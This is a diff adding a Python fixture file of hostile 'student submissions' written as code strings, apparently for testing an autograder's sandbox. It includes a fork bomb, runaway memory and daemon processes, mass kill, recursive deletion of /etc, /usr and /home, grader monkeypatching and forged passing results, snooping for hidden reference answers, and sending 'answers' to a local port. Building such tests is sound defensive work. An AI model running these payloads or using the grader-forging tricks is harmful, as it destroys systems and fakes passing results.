@@ -1,0 +1,153 @@
+"""Code that attacks the grader, as a student might hand it in, within what a failing test can bear.
+
+Texts with ``{places}`` or ``{port}`` are filled in by the cohort: folders of this machine that must stay
+unread and untouched, a port that must not be called.
+"""
+
+from grader.check import MIME
+
+STAYS = "98765.4321"  # what a process that should not survive sleeps: found by its command line
+DEAF = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+FORKED_MEMORY = """import os, time
+for _ in range(12):
+    if os.fork() == 0:
+        held = bytearray(os.urandom(1 << 20)) * 120
+        time.sleep(60)
+time.sleep(60)"""
+FORK_BOMB = """import os, time
+for _ in range(400):
+    try:
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+    except OSError:
+        pass
+time.sleep(60)"""
+DAEMON = f"""import os, subprocess
+subprocess.Popen(["sleep", "{STAYS}"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "{STAYS}"])
+    os._exit(0)"""
+KILL_ALL = """import os, signal
+for target in (os.getppid(), -1):
+    try:
+        os.kill(target, signal.SIGKILL)
+    except OSError:
+        pass"""
+PATCHED = """import builtins, sys
+import grader.check, grader.values
+np.allclose = np.isclose = np.array_equal = lambda *_, **__: True
+builtins.print = lambda *_, **__: None
+for module in (grader.check, grader.values):
+    module.same = lambda *_: True
+    module.kind_faults = lambda *_: []
+class Everything(float):
+    def __eq__(self, other): return True
+    __hash__ = None
+grader.check.plain = lambda value: Everything(value) if isinstance(value, float) else value
+get_ipython().showtraceback = lambda *_, **__: None"""
+NEW_CHECK = """import grader.check
+from contextlib import contextmanager
+@contextmanager
+def check(id):
+    yield lambda name, value, **_: None
+    print(id, "fine")
+grader.check.check = check"""
+EVERYTHING = """    class Everything:
+        def __eq__(self, other): return True
+        def __float__(self): return 0.5
+        __hash__ = None
+    return Everything()"""
+FORGED = f"""from IPython.display import publish_display_data
+for id in ("centre", "centre-hidden", "spread", "spread-hidden", "heads", "heads-hidden"):
+    bundle = {{"check": id, "state": "answered", "values": {{}}, "terms": {{}}, "points": 100}}
+    publish_display_data({{{MIME!r}: bundle, "text/plain": "right"}})"""
+FORGED_INSIDE = f"""    from IPython.display import publish_display_data
+    for value in (1.0, 2.0, 0.5):
+        values = {{"spread": value, "of x": 4.66667}}
+        for id in ("spread", "spread-hidden"):
+            publish_display_data({{{MIME!r}: {{"check": id, "state": "answered", "values": values}}}})
+    return 1.0"""
+NONSENSE = f"""    from IPython.display import publish_display_data
+    deep = []
+    for _ in range(300):
+        deep = [deep]
+    for value in (deep, 10 ** 400, None, "x", {{"spread": 1}}, float("nan")):
+        for values in (value, {{"spread": value}}):
+            bundle = {{"check": "spread-hidden", "state": "answered", "values": values}}
+            publish_display_data({{{MIME!r}: bundle}})
+    publish_display_data({{{MIME!r}: ["check"]}})
+    raise SystemExit"""
+FALSE_IDLE = """kernel = get_ipython().kernel
+for state in ("idle", "busy", "idle"):
+    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": state}, parent=kernel.get_parent())
+kernel.session.send(kernel.iopub_socket, "error", {"ename": ["x"] * 9}, parent=kernel.get_parent())
+kernel.iopub_socket.send(b"not a message")"""
+REFUSED_RIGHTS = """import ctypes, os, socket
+libc, opened = ctypes.CDLL(None, use_errno=True), []
+def tried(name, call):
+    try:
+        if call() not in (-1, None):
+            opened.append(name)
+    except OSError:
+        pass
+tried("memfd", lambda: os.memfd_create("hidden"))
+tried("shmget", lambda: libc.shmget(0, 1 << 20, 0o1600))
+tried("unshare", lambda: libc.unshare(0x10000000))
+tried("ptrace", lambda: libc.ptrace(16, 1, 0, 0))
+tried("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
+tried("setuid", lambda: os.setuid(0) or 1)
+tried("chroot", lambda: os.chroot("/tmp") or 1)
+tried("root", lambda: os.open("/new", os.O_CREAT | os.O_WRONLY))
+tried("usr", lambda: os.open("/usr/new", os.O_CREAT | os.O_WRONLY))
+tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno())
+tried("kernel", lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
+tried("disk", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)))
+secrets = [name for name in os.environ if "SECRET" in name or "TOKEN" in name]
+host = socket.gethostname()"""
+IF_REFUSED = "    return np.var(x) if not opened and not secrets and host == 'lab' else 0.0"
+DELETE = """import os, shutil
+for place in ("/sockets", "/lab", "/tmp", "/work", "/root", "/home", "/usr", "/etc"):
+    shutil.rmtree(place, ignore_errors=True)"""
+CWD_TRAPS = """for name in ("queue.py", "conftest.py", "pytest.ini", "numpy.py", "sitecustomize.py"):
+    with open(name, "w") as file:
+        file.write("raise SystemExit('trapped')")"""
+LEAK = """    name = "Leak" + str(list(x)).replace(".", "_")[:40]
+    raise type(name, (ValueError,), {})(str(list(x)))"""
+SNOOP = """    import glob, json, os
+    for place in {places!r}:
+        for root, _, files in os.walk(place):
+            for file in files:
+                if file in ("reference.json", "canary.txt") or "labs" in root and file.endswith(".ipynb"):
+                    text = open(os.path.join(root, file)).read()
+                    try:
+                        bundle = json.loads(text)["checks"]["spread-hidden"]["bundle"]
+                        return bundle["values"]["spread"]
+                    except Exception:
+                        return np.var(x)
+    return 0.0"""
+VANDAL = """import os
+for place in {places!r}:
+    for root, folders, files in os.walk(place):
+        for file in files:
+            try:
+                with open(os.path.join(root, file), "a") as handle:
+                    handle.write("was here")
+            except OSError:
+                pass
+    try:
+        open(os.path.join(place, "was-here"), "w").close()
+    except OSError:
+        pass"""
+CALL_HOME = """import socket, urllib.request
+for target in (("127.0.0.1", {port}), ("localhost", {port}), ("10.0.0.1", 80)):
+    try:
+        socket.create_connection(target, timeout=0.5).send(b"answers")
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo("example.org", 80)
+except OSError:
+    pass"""
